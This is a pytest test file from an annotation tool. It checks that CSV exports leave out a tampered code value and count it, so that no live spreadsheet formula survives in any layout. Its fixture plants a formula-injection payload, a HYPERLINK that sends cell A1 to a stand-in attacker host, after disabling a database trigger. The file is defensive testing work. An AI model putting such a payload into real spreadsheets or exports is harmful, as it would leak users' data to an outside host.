"""A code written around the app is neutralised in every CSV layout (issue 14).

In a team project a coder can write her own rows with psql, and anyone can edit a
file project; a code cell such as =HYPERLINK(...) must never reach the supervisor's CSV
as a live formula. The database refuses such a code now (migration 0003); a project
that holds one from before is exported without it, and the export counts it.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import text
from sqlmodel import select

from annotator.core.coding import service as coding
from annotator.core.coding.codebook_check import SkippedCodes
from annotator.core.coding.lookups import list_units
from annotator.core.csv_dialect import FORMULA_TRIGGERS
from annotator.core.export import LAYOUTS, ExportOptions, export_csv_stream
from annotator.core.store.models import Code

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def tampered(sample_project):
    units = [u for u in list_units(sample_project) if u.kind == "sentence"]
    for coder in ("ann", "bob"):
        coding.apply_codes(sample_project, coder, units[0].id, {"attribution": "named_person"})
    with sample_project.writing() as session:  # as psql or a file editor did before the check
        if sample_project.on_server:
            session.execute(text("ALTER TABLE code DISABLE TRIGGER code_in_codebook"))
        else:
            session.execute(text("DROP TRIGGER code_in_codebook_on_update"))
        code = session.exec(
            select(Code).where(Code.field == "attribution").order_by(Code.id)
        ).first()
        code.code = HOSTILE
        session.add(code)
        session.flush()
        if sample_project.on_server:
            session.execute(text("ALTER TABLE code ENABLE TRIGGER code_in_codebook"))
    return sample_project


def _cells(project, layout: str, values: str) -> list[str]:
    stream = io.BytesIO()
    export_csv_stream(project, stream, ExportOptions(layout, values))
    rows = csv.reader(io.StringIO(stream.getvalue().decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("layout", LAYOUTS)
@pytest.mark.parametrize("values", ["codes", "values", "labels"])
def test_no_cell_of_any_layout_is_a_live_formula(tampered, layout, values):
    cells = _cells(tampered, layout, values)
    live = [c for c in cells if c and c[0] in FORMULA_TRIGGERS and not _is_number(c)]
    assert live == []


def test_the_tampered_code_is_left_out_and_counted(tampered):
    skipped = SkippedCodes()
    stream = io.BytesIO()
    export_csv_stream(tampered, stream, ExportOptions("long", "codes"), skipped=skipped)
    assert "HYPERLINK" not in stream.getvalue().decode("utf-8-sig")
    assert skipped.message() == "skipped 1 code not in the codebook: coder ann, field attribution"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
